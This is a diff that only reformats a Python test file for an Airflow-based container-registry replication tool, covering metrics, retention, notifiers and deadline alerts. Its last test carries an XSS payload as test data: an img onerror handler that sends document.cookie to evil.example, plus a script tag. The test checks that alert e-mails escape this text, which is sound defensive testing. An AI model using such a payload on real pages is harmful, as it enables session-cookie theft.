@@ -44,9 +44,13 @@ class RecordingNotifier(BaseNotifier):
 
     def notify(self, context: Any) -> None:
         dag_run = context["dag_run"]  # a DagRun, or its JSON in a deadline callback
-        RecordingNotifier.calls.append({
-            "subject": self.subject, "message": self.message,
-            "run_id": dag_run["dag_run_id"] if isinstance(dag_run, dict) else dag_run.run_id})
+        RecordingNotifier.calls.append(
+            {
+                "subject": self.subject,
+                "message": self.message,
+                "run_id": dag_run["dag_run_id"] if isinstance(dag_run, dict) else dag_run.run_id,
+            }
+        )
 
 
 class RecordingStatsLogger(NoStatsLogger):
@@ -58,8 +62,9 @@ class RecordingStatsLogger(NoStatsLogger):
     def incr(self, stat: str, count: int = 1, rate: float = 1, *, tags=None) -> None:
         self.sent.append(("incr", stat, count, tags or {}))
 
-    def gauge(self, stat: str, value: float, rate: float = 1, delta: bool = False, *,
-              tags=None) -> None:
+    def gauge(
+        self, stat: str, value: float, rate: float = 1, delta: bool = False, *, tags=None
+    ) -> None:
         self.sent.append(("gauge", stat, value, tags or {}))
 
     def timing(self, stat: str, dt: Any, *, tags=None) -> None:
@@ -89,14 +94,27 @@ def scrape(app: TestClient) -> dict[tuple[str, tuple[tuple[str, str], ...]], flo
     response = app.get("/metrics", headers={"Authorization": f"Bearer {METRICS_TOKEN}"})
     assert response.status_code == 200, response.text
     assert response.headers["content-type"].startswith("text/plain; version=")
-    return {(s.name, tuple(sorted(s.labels.items()))): s.value
-            for family in text_string_to_metric_families(response.text)
-            for s in family.samples}
+    return {
+        (s.name, tuple(sorted(s.labels.items()))): s.value
+        for family in text_string_to_metric_families(response.text)
+        for s in family.samples
+    }
 
 
 def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
-        airflow_db, connections, store, webhook_url, webhook_secret, app, start_registry, keys,
-        token_service, secondary_reader, monkeypatch, stats):
+    airflow_db,
+    connections,
+    store,
+    webhook_url,
+    webhook_secret,
+    app,
+    start_registry,
+    keys,
+    token_service,
+    secondary_reader,
+    monkeypatch,
+    stats,
+):
     # Without the variable there is no endpoint; with it, a wrong token is refused.
     monkeypatch.delenv("REGISTRY_REPLICATION_METRICS_TOKEN", raising=False)
     assert app.get("/metrics").status_code == 404
@@ -106,9 +124,12 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
     assert app.get("/metrics", headers={"Authorization": METRICS_TOKEN}).status_code == 401
 
     # A primary that notifies the webhook (the connections fixture's primary is replaced).
-    primary = start_registry("notifying", keys=keys, token_realm=token_service.realm,
-                             notifications=Notifications(webhook_url, webhook_secret,
-                                                         backoff="200ms"))
+    primary = start_registry(
+        "notifying",
+        keys=keys,
+        token_realm=token_service.realm,
+        notifications=Notifications(webhook_url, webhook_secret, backoff="200ms"),
+    )
     monkeypatch.setenv("AIRFLOW_CONN_REGISTRY_PRIMARY", json.dumps(primary.connection()))
     monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__EVENT_MAX_ATTEMPTS", "1")
     writer = RegistryClient(primary.client_config(), writable=True)
@@ -122,7 +143,10 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
     # The event path: group/ok replicates, group/app's event fails its one attempt.
     assert run("registry_events").state == "failed"
     assert {e["tag"]: e["status"] for e in store.queue.events()} == {
-        "v1": "done", "v2": "done", "broken": "failed"}
+        "v1": "done",
+        "v2": "done",
+        "broken": "failed",
+    }
 
     # One more push whose event stays pending, and a rejected event (issue 10's webhook marks
     # names out of grammar so; here it is written as that webhook writes it).
@@ -131,39 +155,61 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
     while not [e for e in store.queue.events() if e["repository"] == "group/new"]:
         assert time.monotonic() < deadline
         time.sleep(0.1)
-    store.queue.add([Event("bad-name", "push", "Group/BAD", "v1", None, None,
-                     dt.datetime.now(dt.UTC))])
+    store.queue.add(
+        [Event("bad-name", "push", "Group/BAD", "v1", None, None, dt.datetime.now(dt.UTC))]
+    )
     with store.engine.begin() as conn:
-        conn.execute(events.update().where(events.c.id == "bad-name").values(
-            status=EventStatus.REJECTED, last_error="repository name out of grammar"))
+        conn.execute(
+            events.update()
+            .where(events.c.id == "bad-name")
+            .values(status=EventStatus.REJECTED, last_error="repository name out of grammar")
+        )
 
     # What the reconcile must copy: every blob the secondary lacks, but the rotten one.
-    missing = [b for repo, img in (("group/app", broken), ("group/new", new))
-               for b in img.blobs
-               if b.digest != rotten.digest and secondary_reader.blob_size(repo, b.digest) is None]
+    missing = [
+        b
+        for repo, img in (("group/app", broken), ("group/new", new))
+        for b in img.blobs
+        if b.digest != rotten.digest and secondary_reader.blob_size(repo, b.digest) is None
+    ]
     assert run("registry_reconcile", {"prune": False}).state == "failed"
     assert run("registry_sync", {"repositories": ["group/ok"]}).state == "success"
 
     m = scrape(app)
     assert m[("registry_replication_events_pending", ())] == 1  # group/new:v1
     assert m[("registry_replication_oldest_pending_event_age_seconds", ())] > 0
-    assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_events_total"} \
-        == {"done": 2, "failed": 1, "rejected": 1}
-    assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_repositories"} \
-        == {"synced": 2, "pending": 0, "failed": 1, "damaged": 0, "never": 0}
+    assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_events_total"} == {
+        "done": 2,
+        "failed": 1,
+        "rejected": 1,
+    }
+    assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_repositories"} == {
+        "synced": 2,
+        "pending": 0,
+        "failed": 1,
+        "damaged": 0,
+        "never": 0,
+    }
     # The repositories replicated whole by their first run count as verified at blobs.
-    assert {k[1][0][1] for k in m if k[0] ==
-            "registry_replication_last_verified_timestamp_seconds"} == {"blobs"}
-    assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_tags"} \
-        == {"primary": 4, "secondary": 3}
+    assert {
+        k[1][0][1] for k in m if k[0] == "registry_replication_last_verified_timestamp_seconds"
+    } == {"blobs"}
+    assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_tags"} == {
+        "primary": 4,
+        "secondary": 3,
+    }
     # Every blob byte copied, by the event path (group/ok, and group/app's good blobs) and by
     # the reconcile (the rest): all blobs of the three images but the rotten one.
-    copied = sum(b.size for img in (ok, broken, new) for b in img.blobs
-                 if b.digest != rotten.digest)
+    copied = sum(
+        b.size for img in (ok, broken, new) for b in img.blobs if b.digest != rotten.digest
+    )
     assert copied > sum(b.size for b in missing) > 0
     assert m[("registry_replication_bytes_copied_total", ())] == copied
-    last_success = {k[1][0][1]: v for k, v in m.items()
-                    if k[0] == "registry_replication_last_success_timestamp_seconds"}
+    last_success = {
+        k[1][0][1]: v
+        for k, v in m.items()
+        if k[0] == "registry_replication_last_success_timestamp_seconds"
+    }
     assert list(last_success) == ["registry_sync"]  # the events run and the reconcile failed
     assert time.time() - 120 < last_success["registry_sync"] <= time.time()
     # Two events acknowledged, each between its push and the scrape.
@@ -180,28 +226,54 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
     assert again.pop(age) >= m.pop(age) and again == m
 
     # The same figures went to Airflow's Stats from the tasks (the sync's report sent last).
-    gauges = {(stat, tuple(tags.items())): value for kind, stat, value, tags in stats.sent
-              if kind == "gauge"}
+    gauges = {
+        (stat, tuple(tags.items())): value
+        for kind, stat, value, tags in stats.sent
+        if kind == "gauge"
+    }
     assert gauges[("registry_replication.events_pending", ())] == 1
     assert gauges[("registry_replication.events_total", (("outcome", "rejected"),))] == 1
     assert gauges[("registry_replication.repositories", (("state", "failed"),))] == 1
     assert gauges[("registry_replication.tags", (("side", "secondary"),))] == 3
     assert gauges[("registry_replication.bytes_copied_total", ())] == copied
-    assert sum(count for kind, stat, count, _ in stats.sent
-               if (kind, stat) == ("incr", "registry_replication.bytes_copied")) == copied
-    timings = [value for kind, stat, value, _ in stats.sent
-               if (kind, stat) == ("timing", "registry_replication.push_to_replica")]
+    assert (
+        sum(
+            count
+            for kind, stat, count, _ in stats.sent
+            if (kind, stat) == ("incr", "registry_replication.bytes_copied")
+        )
+        == copied
+    )
+    timings = [
+        value
+        for kind, stat, value, _ in stats.sent
+        if (kind, stat) == ("timing", "registry_replication.push_to_replica")
+    ]
     assert len(timings) == 2 and all(t.total_seconds() > 0 for t in timings)
 
 
 def test_bytes_copied_counts_the_event_path(
-        airflow_db, connections, store, webhook_url, webhook_secret, app, start_registry, keys,
-        token_service, secondary, monkeypatch, stats):
+    airflow_db,
+    connections,
+    store,
+    webhook_url,
+    webhook_secret,
+    app,
+    start_registry,
+    keys,
+    token_service,
+    secondary,
+    monkeypatch,
+    stats,
+):
     """registry_events' copies count in registry_replication_bytes_copied_total, exactly."""
     monkeypatch.setenv("REGISTRY_REPLICATION_METRICS_TOKEN", METRICS_TOKEN)
-    primary = start_registry("notifying", keys=keys, token_realm=token_service.realm,
-                             notifications=Notifications(webhook_url, webhook_secret,
-                                                         backoff="200ms"))
+    primary = start_registry(
+        "notifying",
+        keys=keys,
+        token_realm=token_service.realm,
+        notifications=Notifications(webhook_url, webhook_secret, backoff="200ms"),
+    )
     monkeypatch.setenv("AIRFLOW_CONN_REGISTRY_PRIMARY", json.dumps(primary.connection()))
     writer = RegistryClient(primary.client_config(), writable=True)
     factory = images.ImageFactory(layer_size=48 * 1024)
@@ -225,17 +297,29 @@ def test_bytes_copied_counts_the_event_path(
     own = manifest["config"]["size"] + manifest["layers"][-1]["size"]
     m = scrape(app)
     assert m[("registry_replication_bytes_copied_total", ())] == declared + own
-    assert sum(count for kind, stat, count, _ in stats.sent
-               if (kind, stat) == ("incr", "registry_replication.bytes_copied")) == declared + own
+    assert (
+        sum(
+            count
+            for kind, stat, count, _ in stats.sent
+            if (kind, stat) == ("incr", "registry_replication.bytes_copied")
+        )
+        == declared + own
+    )
     with store.engine.connect() as conn:
-        rows = conn.execute(sa.select(copied_bytes.c.dag_id, copied_bytes.c.task_id,
-                                      copied_bytes.c.bytes).order_by(copied_bytes.c.id)).all()
-    assert [tuple(r) for r in rows] == [("registry_events", "replicate_events", declared),
-                                        ("registry_events", "replicate_events", own)]
+        rows = conn.execute(
+            sa.select(copied_bytes.c.dag_id, copied_bytes.c.task_id, copied_bytes.c.bytes).order_by(
+                copied_bytes.c.id
+            )
+        ).all()
+    assert [tuple(r) for r in rows] == [
+        ("registry_events", "replicate_events", declared),
+        ("registry_events", "replicate_events", own),
+    ]
 
 
 def test_a_report_prunes_the_store_history_and_the_counters_hold(
-        airflow_db, connections, store, primary_writer, app, monkeypatch, caplog):
+    airflow_db, connections, store, primary_writer, app, monkeypatch, caplog
+):
     """The reconcile's report applies history_retention_days next to the run folders'."""
     monkeypatch.setenv("REGISTRY_REPLICATION_METRICS_TOKEN", METRICS_TOKEN)
     monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__HISTORY_RETENTION_DAYS", "30")
@@ -258,37 +342,56 @@ def test_a_report_prunes_the_store_history_and_the_counters_hold(
     caplog.set_level("INFO", logger="registry_replication.airflow")
     assert run("registry_reconcile").state == "success"
 
-    assert "from the replication store, 1 runs, 1 events, 1 copied bytes records older than " \
-           "30 days" in caplog.text
+    assert (
+        "from the replication store, 1 runs, 1 events, 1 copied bytes records older than "
+        "30 days" in caplog.text
+    )
     with store.engine.connect() as conn:
         kept = conn.execute(sa.select(runs.c.run_id)).scalars().all()
         assert len(kept) == 1 and kept != ["old"]  # this run's, recorded before the prune
         assert conn.execute(sa.select(sa.func.count()).select_from(events)).scalar() == 0
         assert conn.execute(sa.select(copied_bytes.c.bytes)).scalars().all() == [
-            sum(b.size for b in img.blobs)]
+            sum(b.size for b in img.blobs)
+        ]
     after = scrape(app)
-    assert after[("registry_replication_bytes_copied_total", ())] \
-        == 12345 + sum(b.size for b in img.blobs)
+    assert after[("registry_replication_bytes_copied_total", ())] == 12345 + sum(
+        b.size for b in img.blobs
+    )
     assert after[("registry_replication_events_total", (("outcome", "done"),))] == 1
 
 
 def test_retention_is_a_teardown_after_the_report_and_the_graph_shows_the_reports_inputs(
-        airflow_db):
+    airflow_db,
+):
     for dag_id in ("registry_reconcile", "registry_sync"):
         dag = load_dags().get_dag(dag_id)
         retention = dag.get_task("retention")
         assert retention.is_teardown and retention.upstream_task_ids == {"report"}
         assert not retention.on_failure_fail_dagrun  # the run's state is the report's
         # Every task whose XCom verify and report read is drawn as their input.
-        assert {"diff", "snapshot_secondary", "plan", "push_manifests", "prune_tags",
-                "verify_closure"} <= dag.get_task("verify").upstream_task_ids
-        assert {"snapshot_primary", "snapshot_secondary", "plan", "copy_blobs", "push_manifests",
-                "prune_tags", "verify_closure", "verify"} <= dag.get_task(
-                    "report").upstream_task_ids
+        assert {
+            "diff",
+            "snapshot_secondary",
+            "plan",
+            "push_manifests",
+            "prune_tags",
+            "verify_closure",
+        } <= dag.get_task("verify").upstream_task_ids
+        assert {
+            "snapshot_primary",
+            "snapshot_secondary",
+            "plan",
+            "copy_blobs",
+            "push_manifests",
+            "prune_tags",
+            "verify_closure",
+            "verify",
+        } <= dag.get_task("report").upstream_task_ids
 
 
 def test_a_failed_retention_leaves_a_successful_run_successful(
-        airflow_db, connections, store, primary_writer, secondary_reader, monkeypatch):
+    airflow_db, connections, store, primary_writer, secondary_reader, monkeypatch
+):
     from registry_replication.airflow import reconcile_report
 
     def broken(now: Any) -> Any:
@@ -309,8 +412,11 @@ def test_a_history_retention_below_a_day_is_logged_and_prunes_nothing(store, mon
 
     store.history.record_copied_bytes("registry_reconcile", "old", "copy_blobs", 0, 12345)
     with store.engine.begin() as conn:
-        conn.execute(copied_bytes.update().values(
-            recorded_at=dt.datetime.now(dt.UTC) - dt.timedelta(days=40)))
+        conn.execute(
+            copied_bytes.update().values(
+                recorded_at=dt.datetime.now(dt.UTC) - dt.timedelta(days=40)
+            )
+        )
     monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__HISTORY_RETENTION_DAYS", "0.5")
     assert _prune_history() == "nothing (history_retention_days refused)"
     assert "history retention of 0.5 days is below the minimum of 1 day" in caplog.text
@@ -322,13 +428,14 @@ def test_a_history_retention_below_a_day_is_logged_and_prunes_nothing(store, mon
     assert store.history.copied_bytes_total() == 12345
 
 
-def test_notifier_on_failure_and_on_recovery_only(airflow_db, connections, store, primary,
-                                                  primary_writer, secondary_reader, monkeypatch):
-    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER",
-                       f"{__name__}.RecordingNotifier")
-    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER_KWARGS",
-                       '{"subject": "{{ replication_alert.subject }}", '
-                       '"message": "{{ replication_alert.text }}"}')
+def test_notifier_on_failure_and_on_recovery_only(
+    airflow_db, connections, store, primary, primary_writer, secondary_reader, monkeypatch
+):
+    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER", f"{__name__}.RecordingNotifier")
+    monkeypatch.setenv(
+        "AIRFLOW__REGISTRY_REPLICATION__NOTIFIER_KWARGS",
+        '{"subject": "{{ replication_alert.subject }}", "message": "{{ replication_alert.text }}"}',
+    )
     RecordingNotifier.calls.clear()
     img = images.ImageFactory().make()
     images.push(primary_writer, "group/app", img, ["v1"])
@@ -342,8 +449,10 @@ def test_notifier_on_failure_and_on_recovery_only(airflow_db, connections, store
     assert alert["subject"] == "[registry-replication] registry_reconcile failed"
     assert f"Failed layer: group/app@{rotten.digest} (DIGEST_INVALID)" in alert["message"]
     assert alert["run_id"] == failed.run_id
-    assert f"/dags/registry_reconcile/runs/{failed.run_id.replace(':', '%3A').replace('+', '%2B')}" \
+    assert (
+        f"/dags/registry_reconcile/runs/{failed.run_id.replace(':', '%3A').replace('+', '%2B')}"
         in alert["message"]
+    )
 
     # Fixed at the source: the next run succeeds and says so, once.
     primary.blob_path(rotten.digest).write_bytes(good)
@@ -352,7 +461,8 @@ def test_notifier_on_failure_and_on_recovery_only(airflow_db, connections, store
     assert secondary_reader.head_manifest("group/app", "v1").digest == img.digest
     assert [c["subject"] for c in RecordingNotifier.calls] == [
         "[registry-replication] registry_reconcile failed",
-        "[registry-replication] registry_reconcile recovered"]
+        "[registry-replication] registry_reconcile recovered",
+    ]
     assert RecordingNotifier.calls[1]["run_id"] == recovered.run_id
 
     # An ordinary success after that notifies nobody.
@@ -372,14 +482,21 @@ def test_reconcile_deadline_alert(airflow_db, store, monkeypatch):
     assert deadline.callback.path == "registry_replication.airflow.alerts.deadline_missed"
 
     monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER", f"{__name__}.RecordingNotifier")
-    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER_KWARGS",
-                       '{"subject": "{{ replication_alert.subject }}", '
-                       '"message": "{{ replication_alert.text }}"}')
+    monkeypatch.setenv(
+        "AIRFLOW__REGISTRY_REPLICATION__NOTIFIER_KWARGS",
+        '{"subject": "{{ replication_alert.subject }}", "message": "{{ replication_alert.text }}"}',
+    )
     RecordingNotifier.calls.clear()
     # The context Airflow's deadline handler passes: the run as JSON, and the deadline.
-    alerts.deadline_missed(context={
-        "dag_run": {"dag_id": "registry_reconcile", "dag_run_id": "scheduled__2026-11-30T01:00"},
-        "deadline": {"id": "1", "deadline_time": "2026-11-30T02:30:00+00:00"}})
+    alerts.deadline_missed(
+        context={
+            "dag_run": {
+                "dag_id": "registry_reconcile",
+                "dag_run_id": "scheduled__2026-11-30T01:00",
+            },
+            "deadline": {"id": "1", "deadline_time": "2026-11-30T02:30:00+00:00"},
+        }
+    )
     [alert] = RecordingNotifier.calls
     assert alert["subject"] == "[registry-replication] registry_reconcile has not succeeded in time"
     assert "/dags/registry_reconcile/runs/scheduled__2026-11-30T01%3A00" in alert["message"]
@@ -393,8 +510,10 @@ def _outcomes(store: Store) -> list[dict[str, Any]]:
     from registry_replication.store.schema import dag_outcomes
 
     with store.engine.connect() as conn:
-        return [dict(r._mapping) for r in conn.execute(
-            sa.select(dag_outcomes).order_by(dag_outcomes.c.id))]
+        return [
+            dict(r._mapping)
+            for r in conn.execute(sa.select(dag_outcomes).order_by(dag_outcomes.c.id))
+        ]
 
 
 def test_the_alert_e_mail_example_escapes_what_registries_wrote(store, monkeypatch):
@@ -402,24 +521,35 @@ def test_the_alert_e_mail_example_escapes_what_registries_wrote(store, monkeypat
     ``html_content`` shows it as text, never as markup."""
     from registry_replication.airflow import alerts
 
-    hostile = ("<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"> & "
-               "</pre><script>alert(1)</script>")
-    store.queue.add([Event("e1", "push", "group/app", "v1", None, None,
-                           dt.datetime.now(dt.UTC))])
+    hostile = (
+        "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"> & "
+        "</pre><script>alert(1)</script>"
+    )
+    store.queue.add([Event("e1", "push", "group/app", "v1", None, None, dt.datetime.now(dt.UTC))])
     owner, _ = store.queue.claim()
-    store.queue.retry_later(owner, ["e1"], f"get manifest: HTTP 400 MANIFEST_INVALID: {hostile}",
-                            max_attempts=1)
+    store.queue.retry_later(
+        owner, ["e1"], f"get manifest: HTTP 400 MANIFEST_INVALID: {hostile}", max_attempts=1
+    )
     monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER", f"{__name__}.RecordingNotifier")
-    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER_KWARGS", json.dumps(
-        {"subject": "{{ replication_alert.subject }}",
-         "message": "{{ replication_alert.html }}"}))  # the README's html_content
+    monkeypatch.setenv(
+        "AIRFLOW__REGISTRY_REPLICATION__NOTIFIER_KWARGS",
+        json.dumps(
+            {
+                "subject": "{{ replication_alert.subject }}",
+                "message": "{{ replication_alert.html }}",
+            }
+        ),
+    )  # the README's html_content
     RecordingNotifier.calls.clear()
-    alerts.notify({"dag_run": {"dag_run_id": "manual__1"}}, alerts.FAILED, "registry_events",
-                  "manual__1")
+    alerts.notify(
+        {"dag_run": {"dag_run_id": "manual__1"}}, alerts.FAILED, "registry_events", "manual__1"
+    )
     [alert] = RecordingNotifier.calls
     message = alert["message"]
     assert message.startswith("<pre>[registry-replication] registry_events failed\n")
     assert message.endswith("</pre>") and message.count("<") == 2  # <pre> and </pre> alone
-    assert ("Failed event: push group/app:v1: get manifest: HTTP 400 MANIFEST_INVALID: "
-            "&lt;img src=x onerror=&#34;fetch(&#39;//evil.example/&#39;+document.cookie)&#34;&gt; "
-            "&amp; &lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;") in message
+    assert (
+        "Failed event: push group/app:v1: get manifest: HTTP 400 MANIFEST_INVALID: "
+        "&lt;img src=x onerror=&#34;fetch(&#39;//evil.example/&#39;+document.cookie)&#34;&gt; "
+        "&amp; &lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
+    ) in message
